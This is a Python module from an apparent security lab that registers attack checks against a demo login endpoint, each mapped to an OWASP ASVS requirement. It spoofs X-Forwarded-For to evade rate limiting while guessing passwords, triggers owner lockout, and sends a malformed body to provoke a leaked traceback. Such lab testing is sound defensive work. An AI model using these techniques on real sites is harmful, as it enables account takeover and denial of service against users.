"""The attacker has no token and no page: requests to the login, as they come."""

import requests

from jwtlab.attacks.actors import HEADERS, Lab
from jwtlab.attacks.registry import Evidence, attack
from jwtlab.site.demo_users import PASSWORDS

GUESSES = 11  # passwords tried for one name; the hardened face looks at ten in five minutes


@attack(
    "Passwords can be guessed without limit, from a new X-Forwarded-For each time.",
    source="ASVS 6.3.1",
)
def guesses_without_limit(lab: Lab) -> Evidence:
    answers = _guess_passwords_of(lab, "vitor")
    return Evidence(429 not in answers, f"{answers.count(401)} of {GUESSES} guesses looked at")


@attack("Guessing wrong on purpose locks the owner out.", source="ASVS 6.1.1")
def owner_locked_out(lab: Lab) -> Evidence:
    _guess_passwords_of(lab, "vitor")
    login = lab.thief({}).log_in("vitor", PASSWORDS["vitor"])
    return Evidence(not login.ok, f"after {GUESSES} wrong guesses, vitor's login: {login.status_code}")


def _guess_passwords_of(lab: Lab, username: str) -> list[int]:
    return [
        requests.post(
            lab.url + "/login/",
            json={"username": username, "password": f"guess {number}"},
            headers=HEADERS | {"X-Forwarded-For": f"203.0.113.{number}"},
        ).status_code
        for number in range(1, GUESSES + 1)
    ]


@attack("A login that is not what it should be shows the site's insides.", source="ASVS 13.4.2, 16.5.1")
def login_with_an_odd_body(lab: Lab) -> Evidence:
    answer = requests.post(lab.url + "/login/", json=["vitor", "123"], headers=HEADERS)
    shown = [what for what in ("Traceback", "INSTALLED_APPS") if what in answer.text]
    insides = " and ".join(shown) or "neither code nor settings"
    return Evidence(bool(shown), f"{answer.status_code}, with {insides}")
